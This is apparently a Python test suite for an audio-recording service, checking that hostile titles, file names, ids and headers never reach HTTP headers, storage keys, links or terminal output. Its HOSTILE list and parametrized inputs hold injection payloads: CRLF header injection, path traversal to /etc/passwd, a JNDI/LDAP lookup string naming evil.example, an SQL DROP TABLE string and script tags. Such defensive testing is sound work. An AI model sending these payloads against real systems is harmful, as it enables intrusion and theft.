"""For any name, headers, object keys and metadata contain only safe characters."""

import json
import re
from datetime import UTC, datetime
from urllib.parse import parse_qs, urlsplit
from uuid import UUID

import httpx2
import pytest
from hypothesis import example, given
from hypothesis import settings as examples
from hypothesis import strategies as st

from accounts import Account
from factories import info_chunk, wav
from pigwav.cli.display import json_text, printable
from pigwav.domain import RecordingId, UserId, object_key
from pigwav.settings import Settings
from pigwav.store.boto import open_client
from pigwav.store.connection import connection_to

KEY = re.compile(r"recordings/[0-9]{1,19}/[0-9]{4}/[0-9]{2}/[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}\.mp3")
MOMENTS = st.datetimes(datetime(2026, 1, 1), timezones=st.just(UTC))  # noqa: DTZ001 - hypothesis needs a naive bound
CLEAN_LINE = re.compile(r"[\x20-\x7e]*")

HOSTILE = [
    "a\r\nSet-Cookie: session=1",
    "a\n\n<script>alert(1)</script>",
    '"; filename="evil.exe',
    "'; filename*=UTF-8''evil.exe",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%0d%0aLocation: http://evil.example",
    "\u202efdp.exe",
    "\x1b]0;owned\x07\x1b[2J",
    "title\x00.html",
    "\u2028alert(1)\u2029",
    "Ж" * 200,
    "🎙" * 200,
    "${jndi:ldap://evil.example}{{7*7}}",
]


@pytest.fixture(scope="module")
def recording(account: Account) -> dict:
    return account.recording()


@pytest.fixture(scope="module")
def fields(account: Account, recording: dict) -> list[bytes]:
    """The names of the response headers of a recording without a title."""
    return sorted(name for name, _ in account.http.get(recording["url"]).headers.raw)


@given(title=st.text(max_size=200))
@example(title=HOSTILE[0])
@example(title=HOSTILE[2])
@example(title=HOSTILE[3])
@examples(max_examples=50, deadline=None)
def test_any_title_makes_headers_of_one_clean_line(
    title: str, account: Account, recording: dict, fields: list[bytes]
) -> None:
    path = f"/records/{recording['id']}"
    renamed = account.http.patch(path, headers=account.bearer, json={"title": title})
    assert renamed.status_code == 200, renamed.text
    answer = account.http.get(recording["url"])

    assert sorted(name for name, _ in answer.headers.raw) == fields
    for _, value in answer.headers.raw:
        assert CLEAN_LINE.fullmatch(value.decode("ascii"))
    assert answer.headers["content-disposition"].count('"') == 2
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", renamed.json()["title"] or "")


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_reaches_neither_the_key_nor_the_metadata_as_it_is(
    account: Account, settings: Settings, name: str
) -> None:
    body = wav(seconds=0.1, before=info_chunk(INAM=name, encoding="utf-8"))
    stored = [
        account.upload_raw(body, title=name, filename=name),
        account.upload_raw(body, filename=f"{name}.wav"),
        account.upload_form(body, title=name, filename=f"{name}.wav"),
    ]
    client = open_client(connection_to(settings.store), attempts=1)
    prefix = f"recordings/{account.id}/"
    keys = [
        found["Key"]
        for found in client.list_objects_v2(Bucket=settings.store.bucket, Prefix=prefix)["Contents"]
    ]

    assert all(KEY.fullmatch(key) for key in keys)
    for answer in stored:
        assert answer.status_code == 201, answer.text
        key = next(key for key in keys if answer.json()["id"] in key)
        head = client.head_object(Bucket=settings.store.bucket, Key=key)
        assert head["ContentType"] == "audio/mpeg"
        assert set(head["Metadata"]) <= {
            *("recording-id", "user-id", "title", "duration-ms", "bitrate-kbps"),
            *("source-codec", "source-sample-rate-hz", "source-channels"),
        }
        for value in (*head["Metadata"].values(), head["ContentDisposition"]):
            assert CLEAN_LINE.fullmatch(value)
    client.close()


@given(user=st.integers(1, 2**63 - 1), recording=st.uuids(), moment=MOMENTS)
def test_a_key_is_made_of_ids_alone_and_stays_under_its_prefix(
    user: int, recording: UUID, moment: datetime
) -> None:
    assert KEY.fullmatch(object_key(UserId(user), RecordingId(recording), moment))


@pytest.mark.parametrize(
    "id_", ["../../../x", "..%2f..%2fx", "1/../2", "%00", "'; DROP TABLE users; --", "recordings/1/x"]
)
def test_what_is_no_id_reaches_no_query_and_no_key(account: Account, id_: str) -> None:
    for path in (f"/records/{id_}", f"/record/{id_}.mp3?user=1", f"/record?user=1&id={id_}"):
        assert account.http.get(path, headers=account.bearer).status_code in (404, 422)
    assert account.upload_raw(wav(seconds=0.1), user=id_).status_code == 401


@pytest.mark.parametrize(
    "host", ["a b", 'x"><script>', "[", "[::1", "a:b:c", "", "evil.example/x?y#", "me@evil", "тест", "x:-1"]
)
def test_what_is_no_host_is_in_no_link(account: Account, host: str) -> None:
    headers = account.bearer | {"Content-Type": "audio/wav"}
    raw = [*((name.encode(), value.encode()) for name, value in headers.items()), (b"Host", host.encode())]
    answer = account.http.post(
        f"/records?user={account.id}", content=wav(seconds=0.1), headers=httpx2.Headers(raw)
    )

    assert answer.status_code == 201, answer.text
    link = urlsplit(answer.headers["location"])
    assert link.netloc == account.http.base_url.netloc.decode()
    assert parse_qs(link.query) == {"id": [answer.json()["id"]], "user": [str(account.id)]}


@pytest.mark.parametrize("asked", ["a b", "x" * 65, "<script>", 'a"b', "a;b", "ж", "a\tb", ""])
def test_a_request_id_that_is_not_harmless_comes_back_in_no_header(account: Account, asked: str) -> None:
    headers = httpx2.Headers([(b"X-Request-ID", asked.encode())])

    assert re.fullmatch("[0-9a-f]{32}", account.http.get("/healthz", headers=headers).headers["x-request-id"])


def test_html_in_a_title_is_json_and_in_no_page(account: Account, recording: dict) -> None:
    title = "<img src=x onerror=alert(1)>"
    account.http.patch(f"/records/{recording['id']}", headers=account.bearer, json={"title": title})
    answer = account.http.get(f"/records/{recording['id']}", headers=account.bearer)

    assert answer.headers["content-type"] == "application/json"
    assert answer.json()["title"] == title
    assert title not in account.http.get("/docs").text


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_drives_no_terminal(name: str) -> None:
    for shown in (printable(name), json_text({"title": name})):
        assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", shown)
    assert json.loads(json_text(name)) == name
